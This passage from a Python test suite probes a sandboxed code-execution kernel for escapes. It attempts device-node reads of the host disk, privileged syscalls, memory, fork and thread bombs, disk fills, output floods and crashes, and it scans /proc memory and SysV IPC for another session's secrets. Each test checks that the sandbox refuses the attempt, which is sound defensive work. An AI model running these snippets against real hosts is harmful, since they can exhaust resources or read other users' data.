_sys_try('umount', 166, '/', 2)
""" % (dev, rel))
    t.check_no_secrets(o)
    t.check_reached(o, "mount-dev", "mount-bind")
    t.note_errnos(o, "mount-dev", "mount-bind", "fsopen", "open-tree")


@case("priv-mknod-devices", "priv", needs=("rootdev",))
def _(t):
    """mknod of the host disk's block device and of /dev/mem in the workspace, then read the
    disk's superblock through it."""
    dev, sb = t.ctx.root_dev
    st = os.stat(dev)
    uuid_hex = sb[0x68:0x78].hex()
    k = t.kernel()
    o = t.run(k, """
O = _os()
_try('mknod-blk', lambda: O.mknod('scsec-blk', 0o60666, %d))
def _rd():
    f = _open('scsec-blk', 'rb', buffering=0)
    f.seek(1024)
    return f.read(1024).hex()
_try('read-blk', _rd, show=3000)
_try('mknod-mem', lambda: O.mknod('scsec-mem', 0o20666, O.makedev(1, 1)))
""" % st.st_rdev)
    if uuid_hex in o.stdout:
        breach("the kernel read the host disk's superblock through a device node it made")
    t.check_reached(o, "mknod-blk")
    t.note_errnos(o, "mknod-blk", "read-blk", "mknod-mem")


@case("priv-keyctl", "priv", control=True)
def _(t):
    """add_key into the process, session and user keyrings (keyrings are not namespaced:
    the host's /proc/keys would show the key)."""
    tag = "scpwn-%s-%s-%s" % (t.case.name, t.profile, os.urandom(3).hex())
    k = t.kernel()
    o = t.run(k, """
_sys_try('add-key-process', 248, 'user', %r, 'x', 1, -2)
_sys_try('add-key-session', 248, 'user', %r, 'x', 1, -3)
_sys_try('keyctl-get', 250, 0, -2, 1)
""" % (tag, tag + "s"))
    if tag in proc_keys():
        breach("the kernel added a key to a kernel keyring visible on the host (%s)" % tag)
    t.check_reached(o, "add-key-process")
    t.note_errnos(o, "add-key-process", "add-key-session", "keyctl-get")


def syscall_case(t, calls, deny=("EPERM",)):
    """Runs raw syscalls, which must all fail with EPERM (or the listed errnos)."""
    k = t.kernel()
    code = "\n".join("_sys_try(%r, %s)" % (name, ", ".join(repr(a) for a in args))
                     for name, args in calls)
    o = t.run(k, code + "\n")
    t.check_denied(o, *[n for n, _ in calls], allowed=deny)
    t.note_errnos(o)
    p = k.alive_after()
    if p:
        breach("after denied syscalls: %s" % p)
    return o


@case("priv-bpf", "priv")
def _(t):
    """bpf(BPF_PROG_LOAD) and bpf(BPF_MAP_CREATE): must be denied with EPERM."""
    syscall_case(t, [("bpf-prog-load", (321, 5, 0, 0)), ("bpf-map-create", (321, 0, 0, 0))])


@case("priv-perf-event", "priv")
def _(t):
    """perf_event_open on all CPUs / the whole system: EPERM."""
    syscall_case(t, [("perf-event-open", (298, 0, -1, 0, -1, 0))])


@case("priv-userfaultfd", "priv")
def _(t):
    """userfaultfd (a favourite of kernel exploits): EPERM."""
    syscall_case(t, [("userfaultfd", (323, 0))])


@case("priv-personality", "priv")
def _(t):
    """personality(ADDR_NO_RANDOMIZE) and personality(PER_LINUX32): EPERM."""
    syscall_case(t, [("personality-norandom", (135, 0x0040000)),
                     ("personality-linux32", (135, 0x0008))])


@case("priv-kexec", "priv")
def _(t):
    """kexec_load and kexec_file_load (with arguments a root host would refuse as invalid):
    EPERM."""
    syscall_case(t, [("kexec-load", (246, 0, 0, 0, 0xdead0000)),
                     ("kexec-file-load", (320, -1, -1, 0, 0, 0xdead0000))])


@case("priv-modules", "priv")
def _(t):
    """init_module, finit_module, delete_module: EPERM."""
    syscall_case(t, [("init-module", (175, 0, 0, "")), ("finit-module", (313, -1, "", 0)),
                     ("delete-module", (176, "scsec_none", 0x800))])


@case("priv-io-ports-ldt", "priv")
def _(t):
    """iopl, ioperm and modify_ldt: EPERM."""
    syscall_case(t, [("iopl", (172, 4)), ("ioperm", (173, 0x10000, 1, 1)),
                     ("modify-ldt", (154, 0, 0, 0))])


@case("priv-int80-creat", "priv", control=True, needs=("ia32",))
def _(t):
    """i386 `int 0x80` creat() of a host marker (path in a MAP_32BIT page): the 32-bit ABI must
    be closed too."""
    m = t.marker()
    k = t.kernel()
    o = t.run(k, """
def _c():
    C = _C()
    a = C.mmap32()
    C.poke(a, %r + b'\\0')
    ic = %r
    code = ic[:7] + a.to_bytes(4, 'little') + ic[11:]
    r, x = C.run_code(code)
    return r
_try('int80-creat', _c)
""" % (m.encode(), i386_code(8, 0, 0o666)))
    t.check_markers()
    t.check_reached(o, "int80-creat")
    t.note_errnos(o, "int80-creat")


@case("priv-rlimit-raise", "priv")
def _(t):
    """setrlimit/prlimit raising the hard limits (CPU, address space, processes, files): from
    outside, the kernel's limits must not change."""
    k = t.kernel()
    kp = k.inner_pid()
    l0 = limits(kp)
    o = t.run(k, """
inf = (1 << 64) - 1
for i, res in enumerate((0, 9, 6, 7, 1, 2)):
    _sys_try('prlimit-%d' % i, 302, 0, res, inf.to_bytes(8, 'little') * 2, 0)
""")
    l1 = limits(kp) if alive(kp) else l0
    changed = {k_: (l0.get(k_), v) for k_, v in l1.items() if l0.get(k_) != v}
    if changed:
        breach("the kernel raised its own limits: %s" % changed)
    t.check_reached(o, "prlimit-0")
    t.note_errnos(o, "prlimit-0", "prlimit-1")


# =============================================================================================
# 8. Resource limits: bombs, fills, floods, loops, crashes
# =============================================================================================

def fmt_size(n):
    for unit, s in ((1 << 40, "TB"), (1 << 30, "GB"), (1 << 20, "MB"), (1 << 10, "KB")):
        if n >= unit:
            v = n / unit
            return ("%d %s" % (v, s)) if v == int(v) else ("%s %s" % (("%.1f" % v).rstrip("0").rstrip("."), s))
    return "%d B" % n


def fmt_secs(s):
    return ("%d s" % s) if s == int(s) else ("%s s" % s)


def check_limit_named(t, o, *texts):
    """Some error the client got names the limit (one of texts)."""
    errs = o.error_text() + " " + o.stderr + " " + " ".join(
        " ".join(e.get("traceback") or []) for e in o.errors)
    for x in texts:
        if x in errs:
            return x
    breach("no error naming the limit (%s) reached the client; it got: %s" % (
        " / ".join(repr(x) for x in texts), o.summary(300)))


def output_bytes(o):
    n = 0
    for m in o.msgs:
        c = m.content
        if m.msg_type == "stream":
            if "output limit" in c.get("text", ""):
                continue
            n += len(c.get("text", "").encode())
        elif m.msg_type in ("display_data", "execute_result", "update_display_data"):
            for v in (c.get("data") or {}).values():
                n += len(v.encode()) if isinstance(v, str) else len(str(v))
    return n


@case("limit-memory-bytearray", "limits", timeout=120)
def _(t):
    """Memory bomb: a bytearray grown 8 MiB at a time, up to 4x the memory limit: the
    client gets the memory limit error naming the limit, the kernel's resident size stays
    bounded, the kernel comes back."""
    lim = t.limit("memory")
    k = t.kernel()
    base = baseline(k)
    with Sampler(k) as s:
        o = t.run(k, """
b = bytearray()
while len(b) < %d:
    b += bytes(8 << 20)
_p('ALLOCATED', len(b))
""" % (4 * lim), timeout=90)
    if "ALLOCATED" in o.stdout:
        breach("the kernel allocated %s with a %s limit" % (fmt_size(4 * lim), fmt_size(lim)))
    # A sanitizer build has no address-space limit and keeps redzones and a quarantine:
    # only the memory cgroup bounds it, loosely; the release build checks the bound.
    if not t.ctx.sanitizer_build and s.max_rss > base["rss"] + lim * 1.1 + (16 << 20):
        breach("user code got %s of memory with a %s limit (the kernel's processes went from "
               "%s idle to %s resident)" % (fmt_size(s.max_rss - base["rss"]), fmt_size(lim),
                                            fmt_size(base["rss"]), fmt_size(s.max_rss)))
    check_limit_named(t, o, "memory limit of %s" % fmt_size(lim))
    t.note("RSS %s idle, %s max; %s" % (fmt_size(base["rss"]), fmt_size(s.max_rss),
                                          o.error_text()[:120]))
    t.check_kernel_ok(k)


@case("limit-memory-objects", "limits", timeout=120)
def _(t):
    """Memory bomb made of many small objects (a list of distinct ints and strings)."""
    lim = t.limit("memory")
    k = t.kernel()
    base = baseline(k)
    with Sampler(k) as s:
        o = t.run(k, """
l = []
i = 0
while i < %d:
    l.append(str(i) * 4)
    i += 1
_p('ALLOCATED', i)
""" % (lim // 16), timeout=90)
    if "ALLOCATED" in o.stdout:
        breach("the kernel made %d objects (~%s) with a %s limit" % (
            lim // 16, fmt_size(lim * 5), fmt_size(lim)))
    # A sanitizer build has no address-space limit and keeps redzones and a quarantine:
    # only the memory cgroup bounds it, loosely; the release build checks the bound.
    if not t.ctx.sanitizer_build and s.max_rss > base["rss"] + lim * 1.1 + (16 << 20):
        breach("user code got %s of memory with a %s limit (the kernel's processes went from "
               "%s idle to %s resident)" % (fmt_size(s.max_rss - base["rss"]), fmt_size(lim),
                                            fmt_size(base["rss"]), fmt_size(s.max_rss)))
    check_limit_named(t, o, "memory limit of %s" % fmt_size(lim))
    t.note("RSS %s idle, %s max; %s" % (fmt_size(base["rss"]), fmt_size(s.max_rss),
                                          o.error_text()[:120]))
    t.check_kernel_ok(k)


@case("limit-memory-retry", "limits", timeout=150)
def _(t):
    """Memory bomb that swallows MemoryError and allocates again, many times: the room the
    kernel keeps for reporting the error must not become more memory for user code. The
    next cell, after the memory is freed, is refused at the same limit with the same error."""
    lim = t.limit("memory")
    k = t.kernel()
    base = baseline(k)
    # The limit is reached first with zeroed megabytes (address space, never touched: filling
    # it page by page would cost more CPU time than the profile grants), then with small
    # objects, 200 times over. What the small ones got past the first refusal is the slack a
    # retry finds: the kernel's room for reporting the error, not another arena's worth.
    code = """
l = []
try:
    while True:
        l.append(bytes(1 << 20))
except MemoryError:
    pass
small = 0
errors = 0
while errors < 200:
    try:
        while True:
            l.append(str(len(l)) * 64)
            small += len(l[-1])
    except MemoryError:
        errors += 1
del l
_p('SWALLOWED', errors, 'SMALL', small)
"""
    with Sampler(k) as s:
        o = t.run(k, code, timeout=90)
    if not t.ctx.sanitizer_build and s.max_rss > base["rss"] + lim * 1.1 + (16 << 20):
        breach("user code that kept catching MemoryError got %s with a %s limit" % (
            fmt_size(s.max_rss - base["rss"]), fmt_size(lim)))
    m = re.search(r"SWALLOWED (\d+) SMALL (\d+)", o.stdout)
    if not m and not o.errors:
        breach("the cell neither finished nor failed: %s" % o.summary(300))
    # A sanitizer build has no address-space limit: only the cgroup stops it, loosely. The
    # release build lets about 18 MiB through (the room for the error and partly filled
    # pages); a second malloc arena would add its 64 MiB reserve.
    if m and not t.ctx.sanitizer_build and int(m.group(2)) > 40 << 20:
        breach("after the limit refused an allocation, catching MemoryError and retrying got "
               "%s more" % fmt_size(int(m.group(2))))
    # Written megabytes this time: a sanitizer build has no address-space limit, and only
    # memory in use reaches its cgroup's.
    again = t.run(k, """
l = []
while True:
    l.append(bytearray(1 << 20))
""", timeout=90)
    check_limit_named(t, again, "memory limit of %s" % fmt_size(lim))
    t.note("RSS %s idle, %s max; first cell: %s; second: %s" % (
        fmt_size(base["rss"]), fmt_size(s.max_rss), o.summary(80), again.error_text()[:80]))
    t.check_kernel_ok(k)


def host_free():
    return {p: __import__("lib").free_bytes(p) for p in ("/", "/tmp", "/dev/shm", "/var/tmp")}


def check_host_disk(t, before, slack=32 << 20):
    after = host_free()
    for p, v in before.items():
        if v - after[p] > slack:
            breach("the host's %s lost %s of free space" % (p, fmt_size(v - after[p])))


@case("limit-disk-workspace", "limits", exclusive=True, timeout=120)
def _(t):
    """Disk fill of the workspace in 1 MiB writes to many files, up to 4x the disk limit:
    ENOSPC/EDQUOT (not a kill by SIGXFSZ), the host's disks untouched, the kernel answers."""
    lim = t.limit("disk")
    before = host_free()
    k = t.kernel()
    o = t.run(k, """
O = _os()
W = [0]
def _fill():
    chunk = b'x' * (1 << 20)
    i = 0
    while W[0] < %d:
        fd = O.open('scsec-fill-%%d' %% i, O.O_WRONLY | O.O_CREAT, 0o644)
        try:
            for j in range(4):
                O.write(fd, chunk)
                W[0] += len(chunk)
        finally:
            O.close(fd)
        i += 1
    return W[0]
_try('fill', _fill)
_p('WROTE', W[0])
""" % (4 * lim), timeout=90)
    check_host_disk(t, before)
    st = o.tries().get("fill")
    if st and st[0] == "OK":
        breach("the workspace took %s with a %s disk limit" % (fmt_size(4 * lim), fmt_size(lim)))
    if o.died and not o.limit():
        breach("the kernel died at the disk limit without a structured error: %s" % o.summary())
    if st and st[0] == "ERR" and st[1].split()[0] not in ("ENOSPC", "EDQUOT", "EFBIG"):
        breach("the fill stopped with %s, not ENOSPC/EDQUOT" % st[1][:80])
    t.note(" ".join(x for x in o.stdout.splitlines() if x.startswith(("WROTE", "ERR fill")))[:160])
    t.check_reached(o, "fill")
    t.check_kernel_ok(k)


@case("limit-file-size", "limits", timeout=90)
def _(t):
    """One file of twice the file-size limit: EFBIG, and the kernel is not killed by
    SIGXFSZ."""
    lim = t.limit("file_size")
    k = t.kernel()
    o = t.run(k, """
O = _os()
def _big():
    fd = O.open('scsec-big', O.O_WRONLY | O.O_CREAT, 0o644)
    chunk = b'y' * (1 << 20)
    n = 0
    while n < %d:
        n += O.write(fd, chunk)
    return n
_try('big-file', _big)
""" % (2 * lim), timeout=60)
    st = o.tries().get("big-file")
    if st and st[0] == "OK":
        breach("a %s file was written with a %s file-size limit" % (fmt_size(2 * lim), fmt_size(lim)))
    if o.died:
        breach("the kernel died writing past the file-size limit (SIGXFSZ?): %s" % o.summary())
    t.check_reached(o, "big-file")
    t.note_errnos(o, "big-file")
    t.check_kernel_ok(k)


@case("limit-disk-tmp-shm", "limits", exclusive=True, timeout=150)
def _(t):
    """Filling the kernel's /tmp and /dev/shm (up to 4x the memory limit each): bounded, and
    the host's disks and shared memory untouched."""
    lim = t.limit("memory")
    before = host_free()
    k = t.kernel()
    o = t.run(k, """
O = _os()
def _fill(d):
    chunk = b'z' * (1 << 20)
    n = 0
    fd = O.open(d + '/scsec-fill', O.O_WRONLY | O.O_CREAT, 0o644)
    try:
        i = 0
        while n < %d:
            if n and n %% (8 << 20) == 0:
                O.close(fd)
                i += 1
                fd = O.open(d + '/scsec-fill-%%d' %% i, O.O_WRONLY | O.O_CREAT, 0o644)
            n += O.write(fd, chunk)
    finally:
        _p('WROTE', d, n)
    return n
_try('fill-tmp', lambda: _fill('/tmp'))
_try('fill-shm', lambda: _fill('/dev/shm'))
""" % (4 * lim), timeout=120)
    check_host_disk(t, before)
    for lb in ("fill-tmp", "fill-shm"):
        st = o.tries().get(lb)
        if st and st[0] == "OK":
            breach("%s: %s written with no limit" % (lb, fmt_size(4 * lim)))
    t.note(" ".join(x for x in o.stdout.splitlines() if x.startswith("WROTE"))[:160])
    if not o.died:
        t.check_reached(o, "fill-tmp")
    t.check_kernel_ok(k)


@case("limit-fds", "limits", timeout=90)
def _(t):
    """Descriptor exhaustion: open until EMFILE (bounded by the open-files limit, seen from
    outside), close them, and the same kernel keeps answering."""
    lim = t.limit("open_files")
    k = t.kernel()
    base = baseline(k)
    with Sampler(k, interval=0.05) as s:
        o = t.run(k, """
O = _os()
_open('scsec-fd', 'w').write('x')
fds = []
def _ex():
    while len(fds) < 20000:
        fds.append(O.open('scsec-fd', 0))
    return len(fds)
_try('exhaust', _ex)
_p('OPENED', len(fds))
_mod('time').sleep(1.0)  # hold the peak for the outside sampler
for fd in fds:
    O.close(fd)
""", timeout=60)
    st = o.tries().get("exhaust")
    if st and st[0] == "OK":
        breach("20000 descriptors opened with an open-files limit of %d" % lim)
    if s.max_fds > base["fds"] + lim + 1:
        breach("user code opened %d descriptors (limit %d; the kernel held %d idle)" % (
            s.max_fds - base["fds"], lim, base["fds"]))
    if o.died:
        breach("the kernel died of descriptor exhaustion: %s" % o.summary())
    if st and st[0] == "ERR" and not st[1].startswith("EMFILE"):
        breach("exhaustion ended with %s, not EMFILE" % st[1][:60])
    t.check_reached(o, "exhaust")
    t.note("fds %d idle, %d max; %s" % (base["fds"], s.max_fds, st and st[1][:40]))
    t.check_kernel_ok(k)


@case("limit-threads", "limits", timeout=90)
def _(t):
    """Thread bomb: start up to 300 threads that block: bounded (seen from outside), a clean
    error, the kernel answers afterwards."""
    lim = t.limit("threads")
    k = t.kernel()
    base = baseline(k)
    with Sampler(k, interval=0.05) as s:
        o = t.run(k, """
TH = _mod('_thread')
lock = TH.allocate_lock()
lock.acquire()
n = [0]
def _w():
    lock.acquire()
    lock.release()
def _bomb():
    while n[0] < 300:
        TH.start_new_thread(_w, ())
        n[0] += 1
    return n[0]
_try('threads', _bomb)
_p('STARTED', n[0])
_mod('time').sleep(1.0)  # hold the peak for the outside sampler
lock.release()
""", timeout=60)
    st = o.tries().get("threads")
    if st and st[0] == "OK":
        breach("300 threads started with a thread limit of %d" % lim)
    if s.max_threads > base["threads"] + lim:
        breach("user code started %d threads (limit %d; the kernel ran %d idle)" % (
            s.max_threads - base["threads"], lim, base["threads"]))
    t.note("threads %d idle, %d max; %s" % (base["threads"], s.max_threads, st and st[1][:60]))
    t.check_kernel_ok(k)


@case("limit-fork-bomb", "limits", exclusive=True, timeout=120)
def _(t):
    """Fork bomb (bounded by the attack itself at ~360 processes so a broken sandbox cannot
    take the host down): every child forks again. From outside: the kernel's process count
    stays within the limit, all die with the kernel, the gateway serves others meanwhile."""
    lim = t.limit("processes")
    k = t.kernel()
    base = baseline(k)
    with Sampler(k, interval=0.05) as s:
        o = t.run(k, """
O = _os()
T = _mod('time')
def _bomb():
    made = 0
    errs = {}
    depth = 0
    t0 = T.time()
    while T.time() - t0 < 3 and made < 3:
        try:
            pid = O.fork()
        except OSError as e:
            errs[_errname(e.errno)] = errs.get(_errname(e.errno), 0) + 1
            T.sleep(0.05)
            continue
        if pid == 0:
            depth += 1
            made = 0
            if depth >= 5:
                break
            continue
        made += 1
    if depth:
        T.sleep(30)
        O._exit(0)
    return (made, errs)
_try('fork-bomb', _bomb)
""", timeout=60)
        problem = t.ctx.fresh_session(t.profile)
    if problem:
        breach("during the fork bomb: %s" % problem)
    if s.max_procs > base["procs"] + lim - 1:
        breach("the kernel ran %d processes, %d of them made by user code (limit %d, "
               "counting the kernel)" % (s.max_procs, s.max_procs - base["procs"], lim))
    t.check_reached(o, "fork-bomb")
    t.note("processes %d idle, %d max; %s" % (base["procs"], s.max_procs,
                                              o.tries().get("fork-bomb", ("", ""))[1][:80]))
    left = k.delete()
    if left:
        breach("%d bomb processes outlived the kernel's DELETE" % len(left))


@case("limit-cpu-loop", "limits", timeout=90)
def _(t):
    """Infinite loop: the CPU-time limit (or the wall-clock timeout) stops it with an error
    naming the limit; the kernel comes back."""
    cpu, wall = t.limit("cpu_time"), t.limit("wall_time")
    k = t.kernel()
    o = t.run(k, "while True:\n    pass\n", timeout=wall + 30)
    if o.timed_out:
        breach("an infinite loop still ran %d s later" % (wall + 30))
    got = check_limit_named(t, o, "CPU time limit of %s" % fmt_secs(cpu),
                            "wall-clock timeout of %s" % fmt_secs(wall))
    t.note("%s after %.1f s" % (got, o.elapsed))
    t.check_kernel_ok(k)


@case("limit-wall-sleep", "limits", timeout=90)
def _(t):
    """A cell that sleeps forever: interrupted at the wall-clock timeout with TimeoutError
    naming it; the kernel itself survives."""
    wall = t.limit("wall_time")
    k = t.kernel()
    o = t.run(k, "_mod('time').sleep(3600)\n", timeout=wall + 30)
    if o.timed_out:
        breach("a sleeping cell still ran %d s later" % (wall + 30))
    check_limit_named(t, o, "wall-clock timeout of %s" % fmt_secs(wall))
    t.note("after %.1f s%s" % (o.elapsed, ", kernel " + o.died if o.died else ""))
    t.check_kernel_ok(k)


@case("limit-wall-uninterruptible", "limits", timeout=90)
def _(t):
    """A cell that swallows every interrupt (except BaseException in a loop) and ignores
    SIGINT: the gateway kills it 3 s after the wall-clock timeout and reports it."""
    wall = t.limit("wall_time")
    k = t.kernel()
    o = t.run(k, """
S = _mod('_signal')
_try('sigint-ign', lambda: S.signal(2, S.SIG_IGN))
T = _mod('time')
while True:
    try:
        T.sleep(1000)
    except BaseException:
        pass
""", timeout=wall + 40)
    if o.timed_out:
        breach("an uninterruptible cell still ran %d s later" % (wall + 40))
    check_limit_named(t, o, "wall-clock timeout of %s" % fmt_secs(wall))
    t.note("after %.1f s%s" % (o.elapsed, ", kernel " + o.died if o.died else ""))
    t.check_kernel_ok(k)


def flood_case(t, code, expect_notice=True):
    cap = t.limit("output")
    k = t.kernel()
    o = t.run(k, code, timeout=t.limit("wall_time") + 40)
    n = output_bytes(o)
    if n > cap + (128 << 10):
        breach("the client received %s of output with a %s cap" % (fmt_size(n), fmt_size(cap)))
    if expect_notice:
        check_limit_named(t, o, "output limit of %s reached" % fmt_size(cap))
    t0 = time.monotonic()
    t.check_kernel_ok(k)
    if time.monotonic() - t0 > 15:
        breach("the kernel took %.0f s to answer after the flood" % (time.monotonic() - t0))
    t.note("%s received in %.1f s" % (fmt_size(n), o.elapsed))
    return o


@case("limit-output-stream", "limits")
def _(t):
    """Output flood: 8 MB printed in 1 KB lines: capped, one notice, responsive after."""
    flood_case(t, "for i in range(8000):\n    print('x' * 1023)\n")


@case("limit-output-result", "limits")
def _(t):
    """Output flood in one execute_result (an 8 MB repr) and one display_data."""
    flood_case(t, "display({'text/plain': 'd' * (8 << 20)}, raw=True)\n'r' * (8 << 20)\n")


@case("limit-output-endless", "limits", timeout=120)
def _(t):
    """An endless print loop: capped output, stopped by a limit, the gateway and client stay
    responsive."""
    flood_case(t, "while True:\n    print('z' * 10000)\n")


def crash_case(t, code):
    k = t.kernel()
    o = t.run(k, code, timeout=60)
    if o.timed_out and not o.died:
        breach("no reply and no restart within 60 s: %s" % o.summary())
    if not o.errors:
        breach("the client got no error for its request: %s" % o.summary())
    lim = o.limit()
    t.note("%s%s" % (o.error_text()[:140], "" if lim else " (no sandcell_limit)"))
    if o.died and not lim:
        breach("the kernel died but the request got no structured error: %s" % o.summary())
    t.check_kernel_ok(k)
    return o


@case("crash-deep-recursion", "limits", timeout=120)
def _(t):
    """sys.setrecursionlimit(10**6) (through the bypass), then unbounded recursion: a C stack
    overflow; the request gets an error, the kernel is restarted."""
    crash_case(t, """
_sys().setrecursionlimit(10 ** 6)
def f(n):
    return f(n + 1)
f(0)
""")


@case("crash-deep-repr", "limits", timeout=120)
def _(t):
    """repr() of a list nested 10**6 deep with the recursion limit raised."""
    crash_case(t, """
_sys().setrecursionlimit(10 ** 6)
l = []
for i in range(10 ** 6):
    l = [l]
repr(l)
""")


@case("crash-segfault", "limits", timeout=120)
def _(t):
    """ctypes-style read of address 0 (string_at(0)): SIGSEGV; reported as the kernel dying
    with the signal named; restarted."""
    o = crash_case(t, "_C().peek(0, 16)\n")
    if o.died and "SIGSEGV" not in o.error_text():
        breach("the crash report does not name SIGSEGV: %s" % o.error_text()[:200])


@case("crash-abort", "limits", timeout=120)
def _(t):
    """abort() from native code: SIGABRT, reported, restarted."""
    crash_case(t, "_C().call('abort')\n")


@case("term-ignored", "limits", control=False)
def _(t):
    """signal(SIGTERM, SIG_IGN) and SIGHUP too, then DELETE the kernel: every process of it
    must be gone within 10 s."""
    k = t.kernel()
    o = t.run(k, """
S = _mod('_signal')
_try('ign-term', lambda: S.signal(15, S.SIG_IGN))
_try('ign-hup', lambda: S.signal(1, S.SIG_IGN))
""")
    pids = k.pids()
    left = k.delete()
    if left:
        breach("processes %s outlived DELETE" % left)
    t.check_reached(o, "ign-term")
    t.note("%d processes gone" % len(pids))


@case("term-orphan-escape", "limits", control=True)
def _(t):
    """A double-forked, setsid'd grandchild that ignores SIGTERM/SIGHUP (where fork is
    allowed): it must not outlive the kernel's DELETE."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
S = _mod('_signal')
def _esc():
    pid = O.fork()
    if pid == 0:
        try:
            O.setsid()
            if O.fork() == 0:
                S.signal(15, S.SIG_IGN)
                S.signal(1, S.SIG_IGN)
                _mod('time').sleep(3600)
        finally:
            O._exit(0)
    O.waitpid(pid, 0)
    return 'escaped'
_try('double-fork', _esc)
""")
    time.sleep(0.3)
    k.pids()  # remember the escaped grandchild too
    left = k.delete()
    if left:
        breach("processes %s outlived DELETE" % left)
    t.check_reached(o, "double-fork")
    t.note_errnos(o, "double-fork")


# =============================================================================================
# 9. Another session's variables and files
# =============================================================================================

VICTIM_PLANT = """
O = _os()
SECRET = %r
SCSEC_VICTIM_VAR = SECRET * 3
_try('ws-file', lambda: _open('scsec-victim-ws-TAG.txt', 'w').write(SECRET))
_try('tmp-file', lambda: _open('/tmp/scsec-victim-tmp-TAG.txt', 'w').write(SECRET))
_try('shm-file', lambda: _open('/dev/shm/scsec-victim-shm-TAG', 'w').write(SECRET))
def _pshm():
    P = _mod('_posixshmem')
    fd = P.shm_open('/scsec-victim-pshm-TAG', O.O_CREAT | O.O_RDWR, 0o666)
    return O.write(fd, SECRET.encode())
_try('posix-shm', _pshm)
def _sysv():
    C = _C()
    sid, e = C.syscall(29, 0x5c5ec, 4096, 0o1666)
    if sid < 0:
        raise OSError(e, 'shmget ' + _errname(e))
    a, e = C.syscall(30, sid, 0, 0)
    if a == -1:
        raise OSError(e, 'shmat ' + _errname(e))
    C.poke(a, SECRET.encode())
    return sid
_try('sysv-shm', _sysv)
def _msg():
    C = _C()
    q, e = C.syscall(68, 0x5c5ed, 0o1666)
    if q < 0:
        raise OSError(e, 'msgget ' + _errname(e))
    m = (1).to_bytes(8, 'little') + SECRET.encode()
    r, e = C.syscall(69, q, m, len(SECRET), 0)
    if r < 0:
        raise OSError(e, 'msgsnd ' + _errname(e))
    return q
_try('sysv-msg', _msg)
_p('CWD', O.getcwd())
"""


def victim_setup(t):
    secret = t.secret("victim")
    t.tag = os.urandom(4).hex()
    victim = t.kernel()
    vo = t.run(victim, (VICTIM_PLANT % secret).replace("TAG", t.tag))
    cwd = ""
    for line in vo.stdout.splitlines():
        if line.startswith("CWD "):
            cwd = line[4:].strip()
    planted = [lb for lb, (st, _) in vo.tries().items() if st == "OK"]
    t.note("victim planted: %s" % ",".join(planted))
    return victim, cwd


@case("session-files", "session", control=True)
def _(t):
    """Another session's workspace file (by its absolute path and through /proc/<pid>/cwd),
    its /tmp and /dev/shm files, POSIX shared memory."""
    victim, cwd = victim_setup(t)
    vp = victim.pids()
    k = t.kernel()
    o = t.run(k, """
O = _os()
ps = [%r + '/scsec-victim-ws-TAG.txt', 'scsec-victim-ws-TAG.txt', '/tmp/scsec-victim-tmp-TAG.txt',
      '/dev/shm/scsec-victim-shm-TAG', '/dev/shm/scsec-victim-pshm-TAG']
for p in %r:
    ps += ['/proc/%%d/cwd/scsec-victim-ws-TAG.txt' %% p, '/proc/%%d/root/tmp/scsec-victim-tmp-TAG.txt' %% p]
for i, p in enumerate(ps):
    _try('read-%%d' %% i, lambda: _open(p, 'rb').read())
def _pshm():
    P = _mod('_posixshmem')
    fd = P.shm_open('/scsec-victim-pshm-TAG', O.O_RDONLY, 0)
    return O.read(fd, 4096)
_try('posix-shm', _pshm)
""".replace("TAG", t.tag) % (cwd, vp))
    t.check_no_secrets(o)
    t.check_reached(o, "read-0", "read-2")
    t.note_errnos(o, "read-0", "read-2", "read-3", "posix-shm")


@case("session-proc-memory", "session", control=True)
def _(t):
    """Another session's variables: scan every visible /proc/<pid>/{environ,cmdline} and the
    writable mappings of /proc/<pid>/mem (the victim's outer pids included) for its secret."""
    victim, cwd = victim_setup(t)
    vp = victim.pids()
    k = t.kernel()
    o = t.run(k, """
O = _os()
me = O.getpid()
pids = set(%r)
try:
    pids |= set(int(x) for x in O.listdir('/proc') if x.isdigit())
except OSError:
    pass
pids.discard(me)
def _scan(p):
    hits = []
    f = _open('/proc/%%d/mem' %% p, 'rb', buffering=0)
    total = 0
    for line in _open('/proc/%%d/maps' %% p).read().splitlines():
        a, perm = line.split()[:2]
        if not perm.startswith('rw'):
            continue
        lo, hi = [int(x, 16) for x in a.split('-')]
        if hi - lo > (64 << 20):
            continue
        try:
            f.seek(lo)
            d = f.read(hi - lo)
        except OSError:
            continue
        total += len(d)
        i = d.find(b'SCSEC-VICTIM')
        if i >= 0:
            hits.append(d[i:i + 60])
        if total > (256 << 20):
            break
    return hits
for p in sorted(pids):
    _try('mem-%%d' %% p, lambda: _scan(p))
    _try('env-%%d' %% p, lambda: [x for x in _open('/proc/%%d/environ' %% p, 'rb').read().split(b'\\0') if b'SCSEC-VICTIM' in x])
""" % vp, timeout=90)
    t.check_no_secrets(o)
    t.check_reached(o, "mem-%d" % vp[-1])
    t.note_errnos(o, "mem-%d" % vp[-1])


@case("session-sysv-ipc", "session")
def _(t):
    """SysV shared memory and message queues by the keys another session used (the IPC
    namespace must separate them)."""
    victim, cwd = victim_setup(t)
    k = t.kernel()
    o = t.run(k, """
def _shm():
    C = _C()
    sid, e = C.syscall(29, 0x5c5ec, 0, 0)
    if sid < 0:
        raise OSError(e, 'shmget ' + _errname(e))
    a, e = C.syscall(30, sid, 0, 0o10000)
    if a == -1:
        raise OSError(e, 'shmat ' + _errname(e))
    return C.peek(a, 64)
_try('sysv-shm', _shm)
def _msg():
    C = _C()
    q, e = C.syscall(68, 0x5c5ed, 0)
    if q < 0:
        raise OSError(e, 'msgget ' + _errname(e))
    b = C.buf(4096)
    r, e = C.syscall(70, q, b, 4000, 0, 0o4000)
    if r < 0:
        raise OSError(e, 'msgrcv ' + _errname(e))
    return b.raw[8:8 + r]
_try('sysv-msg', _msg)
def _ipcs():
    return [_open('/proc/sysvipc/' + n).read()[-400:] for n in ('shm', 'msg')]
_try('proc-sysvipc', _ipcs, show=1200)
""")
    t.check_no_secrets(o)
    t.check_reached(o, "sysv-shm")
    t.note_errnos(o, "sysv-shm", "sysv-msg")


# =============================================================================================
# 10. The layers, observed from outside
# =============================================================================================

LAYER_PROFILES = ("strict", "moderate", "permissive")


def layer_kernel(t):
    k = t.kernel()
    kp = k.inner_pid()
    if kp is None:
        error("cannot find the kernel's process")
    return k, kp


@case("layer-namespaces", "layer", profiles=LAYER_PROFILES, control=True)
def _(t):
    """The kernel runs in its own user, pid, mount, net, ipc, uts and cgroup namespaces
    (compared from outside with the test's own)."""
    k, kp = layer_kernel(t)
    me = os.getpid()
    same = [ns for ns in ("user", "pid", "mnt", "net", "ipc", "uts", "cgroup")
            if ns_id(kp, ns) == ns_id(me, ns)]
    if same:
